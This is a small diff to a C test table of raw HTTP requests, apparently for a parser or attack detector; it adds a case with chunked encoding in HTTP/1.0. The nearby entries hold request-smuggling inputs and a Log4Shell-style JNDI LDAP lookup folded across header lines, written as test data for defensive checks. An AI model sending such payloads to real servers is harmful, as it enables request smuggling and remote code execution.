@@ -63,6 +63,7 @@ static const struct trick {
 					     "\r\n0\r\n\r\nGET /2 HTTP/1.1\r\n\r\n", 2, 1, true),
 	TRICK("odd case is the same", POST "transfer-ENCODING: cHUNKED\r\n\r\n12\r\n" LOOK "\r\n0\r\n\r\nGET /2 HTTP/1.1\r\n\r\n", 2, 1,
 	      false),
+	TRICK("chunked in HTTP/1.0", "POST / HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n12\r\n" LOOK "\r\n0\r\n\r\n", 1, 1, true),
 	// 100
 	TRICK("a look-up over three lines", POST "X: ${jndi:\r\n ldap:\r\n\t//h/a}\r\n\r\nGET /2 HTTP/1.1\r\n\r\n", 2, 1, false),
 	// 101
